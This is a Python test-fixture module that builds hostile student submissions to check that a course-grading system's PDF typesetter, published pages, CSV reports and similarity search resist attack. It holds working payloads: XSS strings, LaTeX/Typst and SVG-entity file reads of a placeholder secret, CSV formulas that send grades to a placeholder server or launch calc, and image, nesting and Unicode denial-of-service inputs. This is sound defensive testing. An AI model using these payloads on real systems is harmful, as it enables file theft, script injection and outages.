"""Hand-ins that attack what is made from them: PDFs, feedback, the class report, tables, the search
for similar answers. They are made for the small course of tests/release/mini_course.py.

In every text `@SECRET@` stands for the path of a file that must not be read, and `@URL@` for a
server that must not be asked.
"""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, Literal

from tests.hostile.editing import Json, code, shown, text
from tests.hostile.names import TEXTS

Family = Literal["published", "pdf", "similar"]
SECRET, URL = "@SECRET@", "@URL@"
CPU_S = 30.0
"""Of one hand-in, in each verb: three times what the dearest takes here, since machines differ."""
CELL_CHARS = 32_000
"""Nearly as many as the typesetter takes of one cell."""


@dataclass(frozen=True)
class HandIn:
    """A hostile hand-in. `family`: which verbs it is given to. `cells` come after the lab's,
    `outputs` in a cell of their own.
    """

    name: str
    family: Family
    gain: str
    student: str = ""
    answers: Mapping[str, str] = field(default_factory=dict)
    cells: Sequence[Json] = ()
    outputs: Sequence[Any] = ()
    metadata: Mapping[str, Any] = field(default_factory=dict)
    cpu_s: float = CPU_S


# ---- published: one text in every place that somebody is shown

_RUNS = "runs a script, or loads something, in the browser of who reads"
_PAGES: dict[str, tuple[str, str]] = {
    "script_end": (_RUNS, "</script></style></title></textarea><script>alert(1)</script>"),
    "comment_end": (_RUNS, "--></blockquote><!--<script>alert(1)//-->"),
    "cdata": (_RUNS, "]]><svg xmlns='http://www.w3.org/2000/svg' onload=alert(1)><![CDATA["),
    "svg": (_RUNS, "<svg/onload=fetch('@URL@/svg')><image href='@URL@/i.svg'/></svg>"),
    "meta": (_RUNS, '<meta http-equiv="refresh" content="0;url=@URL@/meta"><base href="@URL@/">'),
    "frame": (_RUNS, "<iframe srcdoc='&lt;script>alert(1)&lt;/script>' src='@URL@/f'></iframe>"),
    "data_link": (_RUNS, "<a href='data:text/html,<script>alert(1)</script>'>x</a>"),
    "script_link": (_RUNS, "<a href=' java\tscript:alert(1)'>x</a>[x](JaVaScRiPt:alert(1))"),
    "css": (_RUNS, "<style>@import '@URL@/css';*{background:url(@URL@/b)}</style>"),
    "css_attribute": (_RUNS, "<b style='position:fixed;inset:0;background:url(@URL@/s)'>x</b>"),
    "line_separators": ("ends a line of a script", "x\u2028alert(1)\u2029\u0085alert(2)//"),
    "attribute_end": (_RUNS, "x' onload='alert(1)' y=\" onfocus=alert(1) autofocus tabindex=0 `"),
    "marks": ("covers the lines of other students", "Z" + "\u0335\u0321\u0489" * 3000),
    "very_long": ("fills the page", "long " * 10_000),
    "very_long_word": ("fills the page", "w" * 50_000),
    "csv_quotes": ("adds a row for somebody else", '","100"\r\n"al1815","100'),
    "csv_formula_url": ("sends grades away", '=WEBSERVICE("@URL@/"&A1)'),
    "csv_dde": ("starts a program", "=cmd|' /C calc'!'A1'"),
    "csv_pipe": ("starts a program", "%0A-cmd|' /C calc'!'A1'"),
    "csv_hidden_nul": ("ends a cell early", "\0=1+1\0,=1+1"),
}


def _everywhere(name: str, gain: str, said: str) -> HandIn:
    """The text as name, written answers, code, output, and the message of an error."""
    raises = f"def double(number):\n    # {said!a}\n    raise ValueError({said!r})"
    source = said.encode("utf-8", "replace").decode()
    return HandIn(
        f"published_{name}",
        "published",
        gain,
        student=said,
        answers={"double": raises, "why_even": source, "growth_study": source},
        cells=(text(source), code(f"print({said!r})")),
        outputs=(
            {"output_type": "stream", "name": "stdout", "text": source},
            {"output_type": "error", "ename": source, "evalue": source, "traceback": [source]},
            shown(**{"text/html": source, "text/markdown": source, "text/latex": source}),
            shown(**{"text/plain": source}),
        ),
        metadata={"title": said, "authors": [{"name": said}]},
    )


# ---- pdf

_READS = "has a typesetter read a file of the machine"
_ASKS = "has a typesetter ask another machine"
_STOPS = "keeps the typesetter busy, or ends it"
_DISTORTS = "shows people other text than what is there"


def _picture(wide: int, high: int, *, depth: int = 8, colour: int = 0, rows: int = -1) -> str:
    """A PNG in base64 with `rows` rows of zeros, all by default, however many its header tells."""
    n_bytes = 1 + wide * depth * {0: 1, 2: 3, 6: 4}[colour] // 8
    packer = zlib.compressobj(9)
    row = bytes(n_bytes)
    body = b"".join(packer.compress(row) for _ in range(high if rows < 0 else rows))

    def chunk(kind: bytes, data: bytes) -> bytes:
        end = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + end

    header = struct.pack(">IIBBBBB", wide, high, depth, colour, 0, 0, 0)
    parts = chunk(b"IHDR", header) + chunk(b"IDAT", body + packer.flush()) + chunk(b"IEND", b"")
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + parts).decode()


def _jpeg(data: bytes) -> Json:
    return shown(**{"image/jpeg": base64.b64encode(b"\xff\xd8" + data).decode()})


def _svg(body: str, attributes: str = "width='90' height='90'", before: str = "") -> Json:
    names = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
    return shown(**{"image/svg+xml": f"{before}<svg {names} {attributes}>{body}</svg>"})


def _copies(name: str, element: str) -> str:
    """Ten copies of ten copies of ten copies..."""
    levels = (f"<{name} id='a{n + 1}'>" + element.format(n) * 10 + f"</{name}>" for n in range(9))
    return f"<defs><{name} id='a0'><rect width='1' height='1'/></{name}>{''.join(levels)}</defs>"


def _clipped(n: int) -> str:
    """A clip path with two shapes that the next one clips, and so on."""
    shape = "<rect width='9' height='9' clip-path='url(#c{0})'/>"
    paths = (f"<clipPath id='c{i}'>{shape.format(i + 1) * 2}</clipPath>" for i in range(n))
    return "".join(paths) + shape.format(0)


def _table(body: str) -> Json:
    return shown(**{"text/html": f"<table><tr><td>{body}"})


_TYPST = '#read("@SECRET@") #include "@SECRET@" #image("@SECRET@") #plugin("@SECRET@")'
_NESTED = "$" + "{" * 20_000 + "$"
_FIELDS: dict[str, tuple[str, Sequence[str]]] = {
    "typst": (_READS, [_TYPST, f"# {_TYPST}", f"|a|b|\n|-|-|\n|{_TYPST}|`{_TYPST}`|"]),
    "typst_raw_block": (_READS, [f"```{{=typst}}\n{_TYPST}\n```\n\n`{_TYPST}`{{=typst}}"]),
    "typst_in_math": (_READS, [f"$x {_TYPST}$ $\\text{{{_TYPST}}}$ $$\"#read('@SECRET@')\"$$"]),
    "typst_ends": (_READS, [f'"); {_TYPST} #(" ] {_TYPST} [ $ {_TYPST} ``` {_TYPST}']),
    "tex": (
        _READS,
        [
            "\\input{@SECRET@} \\include{@SECRET@} \\write18{cat @SECRET@} $\\input{@SECRET@}$",
            "```{=latex}\n\\input{@SECRET@}\n```\n\n\\lstinputlisting{@SECRET@}",
        ],
    ),
    "tex_loops": (_STOPS, ["$\\def\\a{\\a\\a}\\a$ \\newcommand{\\b}{\\b\\b} $\\b$" * 200]),
    "yaml": (
        _READS,
        [
            '---\nbibliography: @SECRET@\nheader-includes: "#read(\\"@SECRET@\\")"\n'
            "filters: [@SECRET@]\ntemplate: @SECRET@\n---\n\ntext [@x]\n\n---\na: !!x\n---\n"
        ],
    ),
    "pictures_of_files": (
        _READS,
        ["![a](@SECRET@) ![b](file://@SECRET@) ![c](../../../@SECRET@) <img src='@SECRET@'>"],
    ),
    "frames_of_files": (
        _READS,
        [
            "<iframe src='file://@SECRET@'></iframe>\n\n<object data='@SECRET@'></object>\n\n"
            "<embed src='@SECRET@'>\n\n<link rel=stylesheet href='@SECRET@'>\n\n"
            "<video poster='@SECRET@'></video>\n\n<script src='@SECRET@'></script>"
        ],
    ),
    "pictures_from_elsewhere": (
        _ASKS,
        ["![a](@URL@/a.png) <img src=@URL@/b.png>\n\n<svg><image href='@URL@/c'/></svg>"],
    ),
    "picture_names": (
        _READS,
        [f'![{_TYPST}](attachment:a"{_TYPST}) ![\\"); {_TYPST}](data:image/png;base64,AAAA)'],
    ),
    "links": (
        "has the reader's viewer start something",
        ["[a](javascript:app.alert(1)) [b](file://@SECRET@) [c](cmd:calc) [d](//host/x) <x:y>"],
    ),
    "our_own_marks": (_READS, ["\ue000" + "0\ue001" * 50 + "\ue0001\ue001\ufdd0\uffff"]),
    "directions": (_DISTORTS, ["\u202e" * 500 + "cba" + "\u2067\u2066" * 500, "אב " * 5000]),
    "marks_on_a_letter": (_STOPS, ["Z" + "\u0301" * CELL_CHARS, "`Z" + "\u0301" * 30_000 + "`"]),
    "joiners": (_STOPS, ["a" + "\u200d" * CELL_CHARS, "a" + "\ufe0f" * CELL_CHARS]),
    "tags": (_STOPS, ["\U0001f3f4" + "\U000e0067" * CELL_CHARS]),
    "every_letter": (_STOPS, ["".join(chr(0xE000 + n) for n in range(6000)), "\u4e00" * 9000]),
    "long_words": (_STOPS, ["가" * CELL_CHARS, "a" * CELL_CHARS, "a\u200b" * (CELL_CHARS // 2)]),
    "pandoc_slow": (_STOPS, ["-" * CELL_CHARS]),
    "deep": (_STOPS, [">" * 9000, "[" * 9000, "<div>" * 5000, "- " * 9000, _NESTED]),
    "deep_within_limits": (_STOPS, [("> " * 59 + "x\n\n") * 200, "*a **b " * 4000]),
    "formulas": (_STOPS, ["$x$ " * 8000, "$\\bad$ " * 4000, "$" + "x^{2}+" * 5000 + "x$"]),
    "formula_tower": (_STOPS, ["$" + "\\frac{1}{" * 50 + "x" + "}" * 50 + "$", "$x" * 9000]),
    "tables": (
        _STOPS,
        [
            "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n" + ("|" + "b|" * 500 + "\n") * 20,
            "|a|b|\n|-|-|\n" + "|1|2|\n" * 4000,
        ],
    ),
    "many_cells": (_STOPS, ["$x$ " * 8000] * 12),
}
"""What comes in written answers and text cells: the first text is an answer, the others are cells."""

_OUTPUTS: dict[str, tuple[str, Sequence[Json]]] = {
    "svg_files": (
        _READS,
        [
            _svg("<image width='9' height='9' xlink:href='@SECRET@'/>"),
            _svg("<image width='9' height='9' href='&#47;@SECRET@'/>"),
            _svg("<image xmlns:z='http://www.w3.org/1999/xlink' z:href='@SECRET@'/>"),
            _svg("<use href='@SECRET@#a'/><a href='@SECRET@'><text y='9'>a</text></a>"),
            _svg("<style>@font-face{src:url(@SECRET@)} rect{fill:url(@SECRET@#x)}</style>"),
            _svg("<rect width='9' height='9' style='filter:url(@URL@/x)' fill='url(@URL@/y)'/>"),
            _svg("<text>&x;</text>", before="<!DOCTYPE svg [<!ENTITY x SYSTEM '@SECRET@'>]>"),
            _svg("", before="<!DOCTYPE svg SYSTEM '@URL@/x.dtd'><?xml-stylesheet href='@URL@'?>"),
        ],
    ),
    "svg_copies": (
        _STOPS,
        [
            _svg(_copies("g", "<use href='#a{}'/>") + "<use href='#a9'/>"),
            _svg("<g id='a'><use href='#a'/></g>"),
            _svg(_clipped(25)),
            _svg("&e;", before="<!DOCTYPE svg [<!ENTITY a 'a'><!ENTITY e '&a;&a;&a;&a;'>]>"),
        ],
    ),
    "svg_filters": (
        _STOPS,
        [
            _svg(
                "<filter id='f'><feTurbulence baseFrequency='1' numOctaves='1000000'/></filter>"
                "<rect width='2000' height='2000' filter='url(#f)'/>",
                "width='2000' height='2000'",
            ),
            _svg("<marker id='m'>" + "<rect/>" * 500 + "</marker>"),
        ],
    ),
    "svg_text": (_STOPS, [_svg(f"<text>{'a' * 900_000}</text>"), _svg("<text>a</text>" * 50_000)]),
    "svg_sizes": (
        _STOPS,
        [
            _svg("<rect/>", "width='1e300' height='1e300'"),
            _svg("<rect/>", "width='1' height='9999999'"),
            _svg("<rect/>", "width='nan' height='0' viewBox='0 0 0 0'"),
            _svg("<g>" * 50_000 + "</g>" * 50_000),
        ],
    ),
    "svg_pictures": (
        _STOPS,
        [_svg(f"<image href='data:image/png;base64,{_picture(6000, 6000)}'/>")] * 3,
    ),
    "png_declared": (_STOPS, [shown(**{"image/png": _picture(2**31 - 1, 9, rows=0)})]),
    "png_empty": (_STOPS, [shown(**{"image/png": _picture(0, 0)})]),
    "png_pixels": (
        _STOPS,
        [shown(**{"image/png": _picture(5000 + n, 6000, colour=2)}) for n in range(12)],
    ),
    "jpeg_lengths": (
        _STOPS,
        [_jpeg(b"\xff\xe0\xff\xff" + b"A"), _jpeg(b"\xff\xe0\0\0" * 90_000), _jpeg(b"\xff")],
    ),
    "gif_frames": (
        _STOPS,
        [
            shown(
                **{"image/gif": base64.b64encode(b"GIF89a\xff\x7f\xff\x7f" + b",\0" * 999).decode()}
            )
        ],
    ),
    "html_without_ends": (
        _STOPS,
        [_table(body * 60_000) for body in ("<!--", "<a '", "<![CDATA[", "</", "&a")]
        + [_table("<script>" + "<" * 300_000), _table("<td colspan=50>" * 20_000)]
        + [_table("<tr><td>" * 30_000 + "<tr>" + "<td>" * 5000)],
    ),
    "html_table": (_READS, [_table(f'{_TYPST}"); {_TYPST}<td>] {_TYPST}')]),
    "latex": (
        _READS,
        [shown(**{"text/latex": "\\input{@SECRET@}"}), shown(**{"text/latex": _TYPST})],
    ),
    "escapes": (
        _STOPS,
        [
            {"output_type": "stream", "name": "stdout", "text": said}
            for said in (
                "\x1b[" * 50_000,
                "\x1b]" * 50_000,
                "\r" * 100_000,
                "Z" + "\u0301" * 90_000,
            )
        ],
    ),
    "tracebacks": (
        _READS,
        [{"output_type": "error", "ename": _TYPST, "evalue": _TYPST, "traceback": [_TYPST] * 9}],
    ),
    "many_outputs": (_STOPS, [shown(**{"text/markdown": "$x$ " * 8000})] * 12),
}


def _documents() -> list[HandIn]:
    made = [
        HandIn(
            f"pdf_{name}",
            "pdf",
            gain,
            answers={"why_even": said[0]},
            cells=[text(one) for one in said[1:]],
            cpu_s=45.0 if name == "pandoc_slow" else CPU_S,
        )
        for name, (gain, said) in _FIELDS.items()
    ]
    made += [
        HandIn(f"pdf_{name}", "pdf", gain, outputs=outputs)
        for name, (gain, outputs) in _OUTPUTS.items()
    ]
    sources = ["x = '''" + "\\" * 30_000, "(" * 30_000, "a." * 15_000, "f'" + "{" * 20_000]
    made.append(HandIn("pdf_code", "pdf", _STOPS, cells=[code(one) for one in sources]))
    said = {"title": _TYPST, "authors": [{"name": _TYPST}], "header-includes": _TYPST}
    made.append(HandIn("pdf_metadata", "pdf", _READS, metadata=said))
    return made


# ---- similar

_SLOW = "makes the search for similar answers quadratic, or ends it"
_CODE: dict[str, str] = {
    "statements": "\n".join(f"x{n} = f(x{n - 1}, {n})" for n in range(1500)),
    "one_function": "def f(a):\n" + "".join(f"    a = g(a, {n})\n" for n in range(1500)),
    "deep_calls": "f(" * 90 + ")" * 90,
    "minus": "x = " + "-" * 20_000 + "1",
    "attributes": "x = a" + ".a" * 15_000,
    "sum": "x = " + " + ".join(["a"] * 9000),
    "product": "x = " + " * ".join(f"a{n % 900}" for n in range(5000)),
    "lambdas": "x = " + "lambda:" * 4000 + "1",
    "comprehensions": "x = [" + "a " + "for a in b " * 2000 + "]",
    "no_program": "x = = 1\n" * 4000,
    "used_far_away": "\n".join([*(f"a{n} = 0" for n in range(300)), "f(" + "x," * 3000 + ")"]),
    "number": "x = " + "9" * 30_000,
    "text": "x = '" + "a" * 30_000 + "'",
    "nul": "x = 1\0" * 5000,
    "nested_blocks": "\n".join(" " * n + f"if a{n}:" for n in range(95)) + "\n" + " " * 96 + "x",
}


def _alike() -> list[HandIn]:
    made = [
        HandIn(f"similar_{name}", "similar", _SLOW, answers={"double": said}, cells=[code(said)])
        for name, said in _CODE.items()
    ]
    many = [code(f"own_{n} = f_{n}(x, {n}) + g(x, {n}) * {n}\n" * 300) for n in range(30)]
    answers = {"why_even": "the same words again and again " * 900, "double": _CODE["statements"]}
    made += [
        HandIn(f"similar_equal_{n}", "similar", _SLOW, answers=answers, cells=many)
        for n in range(3)
    ]
    words = " ".join(f"word{n * n % 997}" for n in range(4500))
    made.append(HandIn("similar_words", "similar", _SLOW, cells=[text(words)] * 12))
    return made


HAND_INS: tuple[HandIn, ...] = (
    *(_everywhere(name, gain, said) for name, (gain, said) in {**TEXTS, **_PAGES}.items()),
    *_documents(),
    *_alike(),
)
